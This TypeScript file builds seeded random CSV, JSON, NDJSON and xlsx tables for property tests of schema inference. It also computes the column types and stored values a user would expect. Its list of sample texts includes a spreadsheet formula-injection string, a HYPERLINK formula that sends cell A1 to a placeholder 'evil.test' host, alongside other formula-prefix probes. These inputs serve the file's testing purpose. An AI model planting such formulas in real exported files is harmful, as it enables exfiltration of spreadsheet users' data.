/**
 * Random tables as people's files hold them, for the property tests of schema inference: columns
 * of one kind of value or a mix, with nulls, empty strings, dates in several ISO spellings,
 * nested JSON, text that quotes, breaks lines and starts with `=`, written as CSV, JSON, NDJSON or
 * xlsx. Each cell keeps its logical value, so a test can say what a user expects to find stored.
 * Seeded: a failure names its seed, and the same seed makes the same files.
 */

/** `badjson`: text that looks like a JSON array or object but that no jsonb column holds. */
export type Kind = 'int' | 'decimal' | 'bool' | 'date' | 'text' | 'array' | 'object' | 'badjson';
import { type CellInput, xlsxOf } from './xlsx.js';

export type GenFormat = 'csv' | 'json' | 'ndjson' | 'xlsx';

/** A cell: `null` (no value; an empty unquoted CSV cell, a missing or null JSON key), '' or a value of a kind. */
export type Cell = null | { kind: 'empty' } | { kind: Kind; value: unknown; text: string };

export interface GenColumn {
  name: string;
  /** The kinds its values are drawn from. */
  kinds: Kind[];
}

export interface GenTable {
  columns: GenColumn[];
  /** Each row's `id` (the built-in field), so a test finds its row among those stored. */
  ids: string[];
  rows: Cell[][];
}

/** mulberry32: small, fast and good enough to spread test cases. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const KINDS: Kind[] = ['int', 'decimal', 'bool', 'date', 'text', 'array', 'object', 'badjson'];

// Text that reads as text in every format: no number, boolean, date or JSON in disguise.
const TEXTS = [
  'hello',
  'a, b; c|d',
  'say "hi"',
  'two\nlines',
  'tab\there',
  '中文 🎉',
  '=HYPERLINK("http://evil.test/?"&A1)',
  '-dash',
  '+plus',
  '@SUM(A1)',
  ' padded ',
  'null',
  '007',
  '12abc',
  '1,5',
  'back\\slash \\N',
  "it's",
  'TRUE-ish',
];
// A number past a double, nesting past MAX_JSON_DEPTH: as text only.
const BAD_JSON = ['[1e400]', '{"a": -1e999}', `${'['.repeat(70)}${']'.repeat(70)}`];
const DATES = [
  '2024-05-01',
  '2024-05-01T12:30:00Z',
  '2020-02-29T23:59:59.123Z',
  '1999-12-31T23:00:00+02:00',
  '2024-01-02 03:04',
  '2024-07-08T09:10:11',
];
const ARRAYS: unknown[] = [[1, 'a', null], [], [[2, 3], { k: true }], ['中', 'say "x"'], [1.5, -2]];
const OBJECTS: unknown[] = [{ a: 1 }, {}, { a: { b: [1, { c: 'd' }] } }, { 'k"': '中', n: null }, { list: [], flag: false }];
const INTS = [0, 1, -1, 42, -273, 1700000000, 9007199254740991, -9007199254740991];
const DECIMALS = [1.5, -0.25, 0.1 + 0.2, 12.34567, 1e-7, -1234.5, 3.0e10 + 0.5];

function pick<T>(rnd: () => number, xs: readonly T[]): T {
  return xs[Math.floor(rnd() * xs.length)] as T;
}

function value(rnd: () => number, kind: Kind): Cell {
  switch (kind) {
    case 'int': {
      const v = rnd() < 0.5 ? pick(rnd, INTS) : Math.floor(rnd() * 2_000_000) - 1_000_000;
      return { kind, value: v, text: String(v) };
    }
    case 'decimal': {
      const v = rnd() < 0.5 ? pick(rnd, DECIMALS) : Math.round((rnd() - 0.5) * 1e6) / 100 + 0.005;
      return { kind, value: v, text: String(v) };
    }
    case 'bool': {
      const v = rnd() < 0.5;
      return { kind, value: v, text: pick(rnd, v ? ['true', 'TRUE', 'True'] : ['false', 'FALSE', 'False']) };
    }
    case 'date': {
      const v = pick(rnd, DATES);
      return { kind, value: v, text: v };
    }
    case 'text': {
      const v = pick(rnd, TEXTS);
      return { kind, value: v, text: v };
    }
    case 'badjson': {
      const v = pick(rnd, BAD_JSON);
      return { kind, value: v, text: v };
    }
    case 'array': {
      const v = pick(rnd, ARRAYS);
      return { kind, value: v, text: JSON.stringify(v) };
    }
    case 'object': {
      const v = pick(rnd, OBJECTS);
      return { kind, value: v, text: JSON.stringify(v) };
    }
  }
}

/**
 * A table of 1-6 columns and 1-30 rows. A column is of one kind (two in three) or a mix of two or
 * three; any cell may be null (about one in seven) or, outside xlsx, the empty string (one in ten).
 */
export function generateTable(rnd: () => number, format: GenFormat): GenTable {
  const columns: GenColumn[] = Array.from({ length: 1 + Math.floor(rnd() * 6) }, (_, i) => {
    const first = pick(rnd, KINDS);
    const kinds = rnd() < 0.67 ? [first] : [...new Set([first, pick(rnd, KINDS), ...(rnd() < 0.5 ? [pick(rnd, KINDS)] : [])])];
    return { name: `c${i}_${kinds.join('_')}`, kinds };
  });
  const rows = Array.from({ length: 1 + Math.floor(rnd() * 30) }, () =>
    columns.map((c): Cell => {
      const r = rnd();
      if (r < 0.14) return null;
      // xlsx has no empty-string cells a person would type: an empty cell is no value.
      if (r < 0.24 && format !== 'xlsx') return { kind: 'empty' };
      return value(rnd, pick(rnd, c.kinds));
    }),
  );
  return { columns, ids: rows.map((_, i) => `r${i + 1}`), rows };
}

function csvQuote(s: string): string {
  return /[",\n\r]|^\s|\s$/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}

/** The file's bytes. xlsx cells are typed by their values (numbers, booleans), the rest text, as a spreadsheet types them. */
export async function renderTable(t: GenTable, format: GenFormat): Promise<Buffer> {
  const names = t.columns.map((c) => c.name);
  if (format === 'csv') {
    const lines = [['id', ...names].join(',')];
    t.rows.forEach((row, r) => {
      lines.push([t.ids[r], ...row.map((c) => (c === null ? '' : c.kind === 'empty' ? '""' : csvQuote(c.text)))].join(','));
    });
    return Buffer.from(`${lines.join('\r\n')}\r\n`);
  }
  if (format === 'xlsx') {
    const aoa: CellInput[][] = [['id', ...names]];
    t.rows.forEach((row, r) => {
      aoa.push([
        t.ids[r],
        ...row.map((c) => {
          if (c === null || c.kind === 'empty') return null;
          // Numbers and booleans as typed cells, everything else as the text a person typed.
          return typeof c.value === 'number' || typeof c.value === 'boolean' ? c.value : c.text;
        }),
      ]);
    });
    return xlsxOf(aoa);
  }
  const objects = t.rows.map((row, r) => {
    const o: Record<string, unknown> = { id: t.ids[r] };
    row.forEach((c, i) => {
      const name = names[i] as string;
      // A null is sometimes written, sometimes left out, as JSON writers do both.
      if (c === null) {
        if (i % 2 === 0) o[name] = null;
      } else o[name] = c.kind === 'empty' ? '' : c.value;
    });
    return o;
  });
  if (format === 'json') return Buffer.from(`[\n${objects.map((o) => JSON.stringify(o)).join(',\n')}\n]\n`);
  return Buffer.from(`${objects.map((o) => JSON.stringify(o)).join('\n')}\n`);
}

/**
 * The type a person expects for a column, from the kinds its values actually have: one kind gives
 * its type (integers with decimals: number), any other mix, or no value at all, string. In
 * xlsx a date is text in a text cell; JSON text in a cell is still an array or object.
 */
export function expectedType(t: GenTable, col: number): string {
  const kinds = new Set<Kind>();
  for (const row of t.rows) {
    const c = row[col];
    if (c && c.kind !== 'empty') kinds.add(c.kind);
  }
  if (kinds.size === 0 || kinds.has('badjson')) return 'string';
  if (kinds.size === 2 && kinds.has('int') && kinds.has('decimal')) return 'number';
  if (kinds.size > 1) return 'string';
  const [only] = [...kinds];
  const types: Record<Kind, string> = {
    int: 'integer',
    decimal: 'number',
    bool: 'boolean',
    date: 'date',
    text: 'string',
    array: 'array',
    object: 'object',
    badjson: 'string',
  };
  return types[only as Kind];
}

/** Each row's values as the records API should give them back once imported with the columns' `types`. */
export function expectedRows(t: GenTable, format: GenFormat, types: string[]): Array<Record<string, unknown>> {
  return t.rows.map((row, r) => {
    const o: Record<string, unknown> = { id: t.ids[r] };
    row.forEach((c, i) => {
      o[(t.columns[i] as GenColumn).name] = expectedValue(c, format, types[i] as string);
    });
    return o;
  });
}

function expectedValue(c: Cell, format: GenFormat, type: string): unknown {
  if (c === null) return null;
  if (c.kind === 'empty') return type === 'string' ? '' : null;
  switch (type) {
    case 'string':
      // As the file wrote it: CSV text is the text; a JSON (or xlsx) number or boolean is stored as its text.
      if (format === 'csv') return c.text;
      if (typeof c.value === 'string') return c.value;
      if (format === 'xlsx' && (c.kind === 'array' || c.kind === 'object')) return c.text;
      return typeof c.value === 'object' ? JSON.stringify(c.value) : String(c.value);
    case 'integer':
    case 'number':
      return Number(c.text);
    case 'boolean':
      return c.text.toLowerCase() === 'true';
    case 'date': {
      // A date or date-time without an offset is UTC.
      const s = c.text.replace(' ', 'T');
      const iso = /[zZ]|[+-]\d{2}:\d{2}$/.test(s) ? s : `${s}${s.length === 10 ? 'T00:00:00' : ''}Z`;
      return new Date(iso).toISOString();
    }
    default:
      return c.value;
  }
}
